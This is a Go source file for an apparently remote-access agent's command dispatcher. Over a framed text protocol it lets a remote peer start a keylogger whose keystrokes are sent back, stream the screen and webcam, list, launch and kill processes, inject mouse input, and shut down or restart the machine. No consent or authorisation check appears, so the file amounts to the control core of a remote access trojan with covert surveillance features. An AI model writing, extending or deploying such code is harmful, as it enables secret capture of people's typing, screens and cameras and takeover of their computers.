// Package agent implements the agent-side control protocol: a
// whitespace-tokenized text command set carried as the payload of framed
// packets, dispatched against the local HAL, keylogger, and stream
// sessions. It generalizes the teacher's rpc.Dispatcher/command_integration
// pattern (command name -> handler, structured response) from AMF-encoded
// RTMP commands to this protocol's line-oriented text commands.
package agent

import (
	"context"
	"fmt"
	"log/slog"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/sothis/remote-agent/internal/bus"
	"github.com/sothis/remote-agent/internal/hal"
	"github.com/sothis/remote-agent/internal/session"
)

// StreamTag identifies the kind of payload a subscriber push callback
// carries, prefixed as a single byte ahead of the body (see SPEC_FULL.md
// agent-side control protocol).
type StreamTag byte

const (
	TagText    StreamTag = 0
	TagMonitor StreamTag = 1
	TagWebcam  StreamTag = 2
)

// Sender delivers a response payload (without the stream tag byte; callers
// needing a tag prepend it themselves) back to the peer that issued a
// command, echoing backend_id per the protocol ("falling back to 1 if the
// peer sent 0").
type Sender interface {
	Send(backendID uint32, payload []byte) error
}

// Dispatcher holds every subsystem a command can touch: HAL capability
// interfaces, the monitor/webcam stream sessions and their buses, and
// keylogger lifecycle state.
type Dispatcher struct {
	logger *slog.Logger

	Input     hal.InputInjector
	Apps      hal.AppLister
	Processes hal.ProcessLister
	Power     hal.PowerController
	KeyloggerFactory func() hal.Keylogger

	MonitorSession *session.StreamSession
	MonitorBus     *bus.BroadcastBus
	WebcamSession  *session.StreamSession
	WebcamBus      *bus.BroadcastBus

	mu            sync.Mutex
	keylogger     hal.Keylogger
	keylogCancel  context.CancelFunc
	monitorActive bool
	webcamActive  bool
}

// NewDispatcher creates a Dispatcher with no subsystems attached; callers
// assign the exported fields. Any of them may be left nil without
// panicking: the start, list, search, launch, kill, keylog and power
// commands then respond with an ERROR line, stop_*_stream still reports
// STOPPED, and the mouse commands, which never reply, do nothing.
func NewDispatcher(logger *slog.Logger) *Dispatcher {
	if logger == nil {
		logger = slog.Default()
	}
	return &Dispatcher{logger: logger}
}

// Handle parses one whitespace-tokenized command line and returns the
// response line(s) to frame back to the caller. sender is used only by
// start_keylog, to push asynchronous keylog events; video fan-out is
// attached per connection by the server, not through sender. The
// synchronous response is always returned directly.
func (d *Dispatcher) Handle(line string, sender Sender, backendID uint32) []string {
	fields := strings.Fields(line)
	if len(fields) == 0 {
		return nil
	}
	cmd := fields[0]
	args := fields[1:]

	switch cmd {
	case "ping":
		return []string{"INFO:NAME=CoreAgent"}
	case "get_state":
		return d.handleGetState()
	case "start_monitor_stream":
		return []string{d.handleStartStream(true)}
	case "stop_monitor_stream":
		return []string{d.handleStopStream(true)}
	case "start_webcam_stream":
		return []string{d.handleStartStream(false)}
	case "stop_webcam_stream":
		return []string{d.handleStopStream(false)}
	case "start_keylog":
		return []string{d.handleStartKeylog(sender, backendID)}
	case "stop_keylog":
		return []string{d.handleStopKeylog()}
	case "list_apps", "get_apps":
		return []string{d.handleListApps()}
	case "list_process":
		return []string{d.handleListProcess()}
	case "launch_app":
		return []string{d.handleLaunchApp(strings.Join(args, " "))}
	case "kill_process":
		return []string{d.handleKillProcess(args)}
	case "search_apps":
		return []string{d.handleSearchApps(strings.Join(args, " "))}
	case "mouse_move":
		d.handleMouseMove(args)
		return nil
	case "mouse_down":
		d.handleMouseButton(args, mouseDown)
		return nil
	case "mouse_up":
		d.handleMouseButton(args, mouseUp)
		return nil
	case "mouse_click":
		d.handleMouseClick(args)
		return nil
	case "shutdown":
		return d.handlePower(true)
	case "restart":
		return d.handlePower(false)
	default:
		return []string{fmt.Sprintf("ERROR:UnknownCommand:%s", cmd)}
	}
}

func (d *Dispatcher) handleGetState() []string {
	d.mu.Lock()
	monitor := d.monitorActive
	webcam := d.webcamActive
	keylog := d.keylogger != nil
	d.mu.Unlock()

	return []string{
		syncLine("monitor_stream", monitor),
		syncLine("webcam_stream", webcam),
		syncLine("keylogger", keylog),
		"STATUS:SYNC:complete",
	}
}

func syncLine(name string, active bool) string {
	state := "inactive"
	if active {
		state = "active"
	}
	return fmt.Sprintf("STATUS:SYNC:%s=%s", name, state)
}

func (d *Dispatcher) handleStartStream(monitor bool) string {
	sess, label := d.sessionFor(monitor)
	if sess == nil {
		return fmt.Sprintf("ERROR:%s:not configured", label)
	}
	if err := sess.Start(); err != nil {
		return fmt.Sprintf("ERROR:%s:%v", label, err)
	}
	d.mu.Lock()
	if monitor {
		d.monitorActive = true
	} else {
		d.webcamActive = true
	}
	d.mu.Unlock()
	return fmt.Sprintf("STATUS:%s:STARTED", label)
}

func (d *Dispatcher) handleStopStream(monitor bool) string {
	sess, label := d.sessionFor(monitor)
	if sess != nil {
		sess.Stop()
	}
	d.mu.Lock()
	if monitor {
		d.monitorActive = false
	} else {
		d.webcamActive = false
	}
	d.mu.Unlock()
	return fmt.Sprintf("STATUS:%s:STOPPED", label)
}

func (d *Dispatcher) sessionFor(monitor bool) (*session.StreamSession, string) {
	if monitor {
		return d.MonitorSession, "MONITOR_STREAM"
	}
	return d.WebcamSession, "WEBCAM_STREAM"
}

func (d *Dispatcher) handleStartKeylog(sender Sender, backendID uint32) string {
	d.mu.Lock()
	if d.keylogger != nil {
		d.mu.Unlock()
		return "STATUS:KEYLOGGER:STARTED"
	}
	if d.KeyloggerFactory == nil {
		d.mu.Unlock()
		return "ERROR:Keylogger:not configured"
	}
	kl := d.KeyloggerFactory()
	ctx, cancel := context.WithCancel(context.Background())
	events, err := kl.Start(ctx)
	if err != nil {
		cancel()
		d.mu.Unlock()
		return fmt.Sprintf("ERROR:Keylogger:%v", err)
	}
	d.keylogger = kl
	d.keylogCancel = cancel
	d.mu.Unlock()

	go func() {
		for text := range events {
			if sender == nil {
				continue
			}
			payload := append([]byte{byte(TagText)}, []byte("KEYLOG: "+text)...)
			_ = sender.Send(backendID, payload)
		}
	}()
	return "STATUS:KEYLOGGER:STARTED"
}

func (d *Dispatcher) handleStopKeylog() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.keylogger != nil {
		d.keylogger.Stop()
		if d.keylogCancel != nil {
			d.keylogCancel()
		}
		d.keylogger = nil
		d.keylogCancel = nil
	}
	return "STATUS:KEYLOGGER:STOPPED"
}

func (d *Dispatcher) handleListApps() string {
	if d.Apps == nil {
		return "ERROR:ListApps:not configured"
	}
	apps, err := d.Apps.ListApps()
	if err != nil {
		return fmt.Sprintf("ERROR:ListApps:%v", err)
	}
	return formatApps(apps)
}

func (d *Dispatcher) handleSearchApps(query string) string {
	if d.Apps == nil {
		return "ERROR:SearchApps:not configured"
	}
	apps, err := d.Apps.SearchApps(query)
	if err != nil {
		return fmt.Sprintf("ERROR:SearchApps:%v", err)
	}
	return formatApps(apps)
}

func formatApps(apps []hal.AppInfo) string {
	var b strings.Builder
	b.WriteString("DATA:APPS:")
	for i, a := range apps {
		if i > 0 {
			b.WriteByte(';')
		}
		fmt.Fprintf(&b, "%s|%s|%s|%s|%s", a.ID, a.Name, a.Icon, a.Exec, a.Keywords)
	}
	return b.String()
}

func (d *Dispatcher) handleListProcess() string {
	if d.Processes == nil {
		return "ERROR:ListProcess:not configured"
	}
	procs, err := d.Processes.ListProcesses()
	if err != nil {
		return fmt.Sprintf("ERROR:ListProcess:%v", err)
	}
	var b strings.Builder
	b.WriteString("DATA:PROCS:")
	for i, p := range procs {
		if i > 0 {
			b.WriteByte(';')
		}
		fmt.Fprintf(&b, "%d|%s|-|%s|%s", p.PID, p.Name, p.Exec, p.State)
	}
	return b.String()
}

func (d *Dispatcher) handleLaunchApp(command string) string {
	if command == "" {
		return "ERROR:Launch:empty command"
	}
	if d.Apps == nil {
		return "ERROR:Launch:not configured"
	}
	pid, err := d.Apps.LaunchApp(command)
	if err != nil {
		return fmt.Sprintf("ERROR:Launch:%v", err)
	}
	return fmt.Sprintf("STATUS:APP_LAUNCHED:%d", pid)
}

func (d *Dispatcher) handleKillProcess(args []string) string {
	if len(args) < 1 {
		return "ERROR:KillProcess:missing pid"
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return fmt.Sprintf("ERROR:KillProcess:invalid pid %q", args[0])
	}
	if d.Processes == nil {
		return "ERROR:KillProcess:not configured"
	}
	if err := d.Processes.KillProcess(pid); err != nil {
		return fmt.Sprintf("ERROR:KillProcess:%v", err)
	}
	return "STATUS:PROCESS_KILLED"
}

func (d *Dispatcher) handleMouseMove(args []string) {
	if d.Input == nil || len(args) < 2 {
		return
	}
	x, errX := strconv.ParseFloat(args[0], 64)
	y, errY := strconv.ParseFloat(args[1], 64)
	if errX != nil || errY != nil {
		return
	}
	_ = d.Input.MouseMove(x, y)
}

type mouseEdge int

const (
	mouseDown mouseEdge = iota
	mouseUp
)

func (d *Dispatcher) handleMouseButton(args []string, edge mouseEdge) {
	if d.Input == nil || len(args) < 1 {
		return
	}
	btn, err := parseButton(args[0])
	if err != nil {
		return
	}
	if edge == mouseDown {
		_ = d.Input.MouseDown(btn)
	} else {
		_ = d.Input.MouseUp(btn)
	}
}

func (d *Dispatcher) handleMouseClick(args []string) {
	if d.Input == nil || len(args) < 1 {
		return
	}
	btn, err := parseButton(args[0])
	if err != nil {
		return
	}
	_ = d.Input.MouseDown(btn)
	time.Sleep(20 * time.Millisecond)
	_ = d.Input.MouseUp(btn)
}

func parseButton(s string) (hal.MouseButton, error) {
	n, err := strconv.Atoi(s)
	if err != nil {
		return 0, err
	}
	switch n {
	case 0:
		return hal.ButtonLeft, nil
	case 1:
		return hal.ButtonRight, nil
	case 2:
		return hal.ButtonMiddle, nil
	default:
		return 0, fmt.Errorf("invalid button %d", n)
	}
}

func (d *Dispatcher) handlePower(shutdown bool) []string {
	if d.Power == nil {
		return []string{"ERROR:Power:not configured"}
	}
	action := "SHUTDOWN"
	fn := d.Power.Shutdown
	if !shutdown {
		action = "RESTART"
		fn = d.Power.Restart
	}
	info := fmt.Sprintf("INFO:%s", action)
	go func() {
		time.Sleep(50 * time.Millisecond)
		_ = fn()
	}()
	return []string{info}
}
